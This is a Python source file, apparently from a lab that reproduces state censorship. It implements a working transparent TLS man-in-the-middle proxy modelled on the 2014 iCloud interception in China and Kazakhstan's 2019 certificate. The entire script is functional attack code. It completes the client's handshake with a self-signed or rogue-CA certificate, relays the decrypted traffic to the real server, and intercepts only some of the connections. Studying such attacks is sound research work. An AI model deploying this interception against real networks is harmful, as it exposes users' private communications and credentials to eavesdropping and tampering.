#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Transparent TLS man-in-the-middle, as used against iCloud in China (2014)
and by Kazakhstan's "national security certificate" (2019).

iptables in the censor REDIRECTs chosen (address, port) pairs here.  For each
connection, with probability P, the proxy:
  * completes the client's TLS handshake itself with the certificate chain
    given by --cert (a self-signed certificate, or a leaf issued by a rogue
    CA plus that CA), whatever SNI the client sent;
  * opens its own TLS connection to the original destination (taken with
    SO_ORIGINAL_DST), with the client's SNI, verifying the real server
    against --upstream-ca, and relays the decrypted bytes both ways, so the
    page still loads for a user who clicks through the warning.
Otherwise (probability 1-P) the connection is spliced raw to the original
destination: the client talks to the real server, untouched.  P < 1
reproduces the intermittent attack Apple described.
"""

import random
import socket
import ssl
import sys

import labcommon as lc


def handle(conn, peer, args, server_ctx, upstream_ctx):
    up = tls = None
    try:
        dst = lc.original_dst(conn)
        if random.random() >= args.probability:
            up = socket.create_connection(dst, timeout=5)
            lc.log("%s:%d -> %s:%d passed untouched", peer[0], peer[1], *dst)
            lc.pump(conn, up)
            return
        conn.settimeout(10)
        seen = {}

        def note_sni(_sslsock, server_name, _ctx):
            seen["sni"] = server_name

        server_ctx.sni_callback = note_sni
        tls = server_ctx.wrap_socket(conn, server_side=True)
        sni = seen.get("sni") or args.name
        lc.log("%s:%d -> %s:%d intercepted (sni %s, %s)", peer[0], peer[1], dst[0], dst[1],
               seen.get("sni"), tls.version())
        raw_up = socket.create_connection(dst, timeout=5)
        up = upstream_ctx.wrap_socket(raw_up, server_hostname=sni)
        lc.log("%s:%d relaying to the real %s (%s)", peer[0], peer[1], sni, up.version())
        why = lc.pump(tls, up)
        lc.log("%s:%d done: %s", peer[0], peer[1], why)
    except (ssl.SSLError, OSError) as e:
        lc.log("%s:%d: %s", peer[0], peer[1], e)
    finally:
        lc.close_quietly(up, tls, conn)


def main():
    ap = lc.tcp_service_args(__doc__)
    ap.add_argument("--cert", required=True, help="PEM chain presented to clients")
    ap.add_argument("--key", required=True)
    ap.add_argument("--name", required=True, help="SNI used upstream when the client sent none")
    ap.add_argument("--upstream-ca", required=True, help="CA that verifies the real servers")
    ap.add_argument("--probability", type=float, default=1.0)
    ap.add_argument("--ready")
    args = ap.parse_args()
    lc.set_prog("tlsmitm:%d" % args.port)
    lc.exit_on_signals()

    # A fresh server context per connection: the SNI callback records the
    # name for that connection only (loading a P-256 key is cheap).
    def per_conn(conn, peer):
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(args.cert, args.key)
        handle(conn, peer, args, ctx, upstream_ctx)

    ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER).load_cert_chain(args.cert, args.key)  # fail early
    upstream_ctx = ssl.create_default_context(cafile=args.upstream_ca)
    lc.serve_tcp(args, ", intercepting with probability %.2f" % args.probability, per_conn)


if __name__ == "__main__":
    sys.exit(main())
